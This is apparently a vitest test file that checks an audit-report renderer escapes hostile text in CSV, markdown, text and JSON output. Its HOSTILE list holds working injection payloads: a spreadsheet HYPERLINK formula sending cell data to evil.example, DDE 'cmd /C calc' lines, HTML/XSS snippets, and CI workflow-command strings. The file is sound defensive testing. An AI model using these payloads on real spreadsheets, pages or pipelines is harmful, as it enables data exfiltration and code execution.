// The audit report as users read it: CSV for spreadsheets (RFC 4180, formula-safe), markdown
// for job summaries (every cell escaped), one-line JSON, text. Hostile reasons throughout.
import { describe, expect, it } from 'vitest';
import { AttemptCollector, type AuditReport, summarize } from '../../src/core/audit/attempts.js';
import type { LedgerRecord } from '../../src/core/ledger/record.js';
import {
  auditRowJson,
  csvCell,
  renderAuditSummaryMarkdown,
  writeAuditCsv,
  writeAuditJson,
  writeAuditMarkdown,
  writeAuditText,
} from '../../src/core/render/audit.js';
import { ACCOUNT, messageId, record } from '../support/factories.js';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  'ping @org/team and @alice #12 https://evil.example',
  '<img src=x onerror=alert(1)> <!-- x --> <script>',
  'a | b || c \\| d',
  'line one\nline two\r\nline three',
  '[link](javascript:alert(1)) ![i](https://evil.example/i.png) `code` *em* _u_',
  '::add-mask::secret ##[set-output name=x]1',
  'bidi \u202Eevil\u202C zero\u200Bwidth',
];

function reportOf(records: LedgerRecord[]): AuditReport {
  const c = new AttemptCollector({});
  for (const r of records) c.mark(r);
  for (const r of records) c.add(r);
  const rows = c.rows();
  return { period: {}, accounts: [], rows, summary: summarize(rows) };
}

const hostileReport = () =>
  reportOf(
    HOSTILE.map((reason, i) =>
      record({
        id: messageId(i + 1),
        seq: 1,
        state: 'pending',
        at: `2026-11-20T10:00:${String(i).padStart(2, '0')}.000Z`,
        reason,
        ticket: reason.slice(0, 100),
        requested_by: reason.slice(0, 100),
        actor: reason.slice(0, 100),
        run: reason.slice(0, 300),
        error: { message: reason },
        approved_by: ['alice', 'renovate[bot]'],
        // Every other attempt asked for by a search: its selector is as hostile as the rest.
        ...(i % 2 === 1 ? { selector: reason } : {}),
      }),
    ),
  );

function collect(write: (w: (chunk: string) => void) => void): string {
  let out = '';
  write((chunk) => {
    out += chunk;
  });
  return out;
}

/** RFC 4180 fields of a CSV text: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (ch === '"') quoted = false;
      else field += ch;
      i++;
      continue;
    }
    if (ch === '"' && field === '') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (ch === '\r' || ch === '\n' || ch === '"')
      throw new Error(`bare ${JSON.stringify(ch)} at ${i}`);
    else field += ch;
    i++;
  }
  if (field !== '' || row.length > 0) throw new Error('the last line has no CRLF');
  return rows;
}

describe('CSV', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
  ])('cell %j is written %j', (text, expected) => {
    expect(csvCell(text)).toBe(expected);
  });

  it('one header line and one line per attempt, CRLF ended; every field reads back, formulas neutralised', () => {
    const report = hostileReport();
    const text = collect((w) => writeAuditCsv(report.rows, w));
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      'first_at',
      'last_at',
      'account_id',
      'id',
      'attempt',
      'state',
      'delivered',
      'failed',
      'undelivered',
      'error',
      'disposition',
      'acknowledge',
      'reason',
      'ticket',
      'requested_by',
      'pull_request',
      'approved_by',
      'commit',
      'run',
      'actor',
      'selector',
    ]);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    const reasons = rows.slice(1).map((r) => r[12]);
    expect(reasons).toEqual(HOSTILE.map((h) => (/^[=+\-@\t\r]/.test(h) ? `'${h}` : h)));
    const neutral = (h: string) => (/^[=+\-@\t\r]/.test(h) ? `'${h}` : h);
    expect(rows.slice(1).map((r) => r[20])).toEqual(
      HOSTILE.map((h, i) => (i % 2 === 1 ? neutral(h) : '')),
    );
    for (const row of rows) {
      expect(row).toHaveLength(21);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[1]?.slice(2, 6)).toEqual([ACCOUNT, messageId(1), '1', 'pending']);
    expect(rows[1]?.[16]).toBe('alice renovate[bot]');
  });

  it('an empty report is the header alone', () => {
    expect(collect((w) => writeAuditCsv([], w))).toMatch(/^first_at,[a-z_,]+actor,selector\r\n$/);
  });
});

describe('markdown', () => {
  it('escapes every cell: no mention, link, HTML, table break or line break survives', () => {
    const report = hostileReport();
    const text = collect((w) => writeAuditMarkdown(report, w, false));
    const table = text.split('\n').filter((l) => l.startsWith('| `2026-11-'));
    expect(table).toHaveLength(HOSTILE.length);
    for (const line of table) {
      // Only the 22 separators of 21 cells.
      expect(line.split('|')).toHaveLength(23);
      // Without its code spans (validated ids and times) and numeric entities, a row holds
      // letters, digits, spaces, commas, the separators and the backslashes of visible codes.
      const bare = line.replace(/`[0-9A-Za-z:._/-]+`/g, '').replace(/&#[0-9]+;/g, '');
      expect(bare).toMatch(/^[A-Za-z0-9 ,|\\]*$/);
    }
    expect(text).toContain('&#61;HYPERLINK&#40;');
    expect(text).toContain('&#64;&#8203;org&#47;team');
    expect(text).toContain('&#60;img src&#61;x onerror');
  });

  it('the summary, with requesters escaped and capped when asked', () => {
    const report = hostileReport();
    const md = renderAuditSummaryMarkdown(report, { maxRequesters: 3 });
    expect(md).toMatch(
      /^### quarantine-release audit\n\nRelease attempts from the first record to the last record: \*\*13\*\*\./,
    );
    expect(md).toContain('| pending | 13 |');
    expect(md).toContain('| _unknown_ | 13 |');
    expect(md).toContain('| `id` | 7 |\n| `search` | 6 |');
    expect(md).toContain('… and 10 more requesters');
    expect(md).toContain('| `2026-11` | 13 |');
    for (const line of md.split('\n').filter((l) => l.startsWith('| ')))
      expect(line.split('|')).toHaveLength(4);
    expect(md).not.toMatch(/<img|@org|\]\(/);
  });

  it('--summary-only: no rows table', () => {
    const text = collect((w) => writeAuditMarkdown(hostileReport(), w, true));
    expect(text).not.toContain('first_at');
  });
});

describe('text and JSON', () => {
  it('text: one line per attempt, user text on one line with no workflow command', () => {
    const report = hostileReport();
    const text = collect((w) => writeAuditText(report, w, false));
    const lines = text.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'quarantine-release audit, from the first record to the last record: 13 release attempts',
    );
    const rows = lines.filter((l) => l.startsWith('  2026-'));
    expect(rows).toHaveLength(13);
    for (const line of rows) expect(line).not.toMatch(/::|##\[|\r|\u202E/);
    expect(lines[2]).toBe('  entry:        id 7, search 6');
    expect(rows.filter((l) => l.includes('; search: '))).toHaveLength(6);
  });

  it('JSON: one line, the values as recorded, and the same as the whole value stringified', () => {
    const report = hostileReport();
    const text = collect((w) => writeAuditJson(report, w));
    expect(text.endsWith('\n')).toBe(true);
    expect(text.trimEnd()).not.toContain('\n');
    const value = JSON.parse(text) as {
      rows: { reason: string; approved_by: string[]; selector: string | null }[];
    };
    expect(value.rows.map((r) => r.reason)).toEqual(HOSTILE);
    expect(value.rows.map((r) => r.selector)).toEqual(HOSTILE.map((h, i) => (i % 2 ? h : null)));
    expect(text).toBe(
      `${JSON.stringify({
        period: { since: null, until: null },
        accounts: [],
        summary: report.summary,
        rows: report.rows.map(auditRowJson),
      })}\n`,
    );
    const summary = JSON.parse(collect((w) => writeAuditJson(report, w, { summaryOnly: true })));
    expect(Object.keys(summary)).toEqual(['period', 'accounts', 'summary']);
    expect(summary.summary.by_outcome.pending).toBe(13);
  });
});
